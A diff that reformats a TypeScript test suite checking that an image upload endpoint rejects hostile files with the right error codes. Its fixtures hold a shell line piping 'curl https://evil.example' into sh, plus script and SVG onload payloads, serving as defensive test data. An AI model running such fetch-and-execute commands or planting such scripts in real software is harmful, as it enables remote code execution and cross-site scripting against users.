@@ -82,9 +82,26 @@ describe('hostile uploads', () => {
   const cases: [string, () => Buffer, string, number, string, RegExp][] = [
     ['a 20000x20000 PNG of a few kilobytes', pixelBomb, 'image/png', 413, 'image_too_many_pixels', /20000x20000/],
     ['a script renamed .jpg', () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n<script>alert(1)</script>\n'), 'image/jpeg', 415, 'unsupported_image_type', /JPEG, PNG, WebP/],
-    ['an SVG with a script', () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), 'image/svg+xml', 415, 'unsupported_image_type', /SVG/],
+    [
+      'an SVG with a script',
+      () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
+      'image/svg+xml',
+      415,
+      'unsupported_image_type',
+      /SVG/,
+    ],
     ['a zip archive', zipFile, 'image/jpeg', 415, 'unsupported_image_type', /application\/zip/],
-    ['a truncated JPEG', () => { const jpg = fs.readFileSync(path.join(FIXTURES, 'zh-jpeg-tv.jpg')); return jpg.subarray(0, Math.floor(jpg.length / 2)); }, 'image/jpeg', 422, 'image_unreadable', /damaged or incomplete/],
+    [
+      'a truncated JPEG',
+      () => {
+        const jpg = fs.readFileSync(path.join(FIXTURES, 'zh-jpeg-tv.jpg'));
+        return jpg.subarray(0, Math.floor(jpg.length / 2));
+      },
+      'image/jpeg',
+      422,
+      'image_unreadable',
+      /damaged or incomplete/,
+    ],
     ['an empty body', () => Buffer.alloc(0), 'image/png', 400, 'upload_empty', /empty/],
     ['a photo over the size cap', () => Buffer.concat([fs.readFileSync(path.join(FIXTURES, 'zh-jpeg-tv.jpg')), Buffer.alloc(700 * 1024)]), 'image/jpeg', 413, 'upload_too_large', /larger than/],
   ];
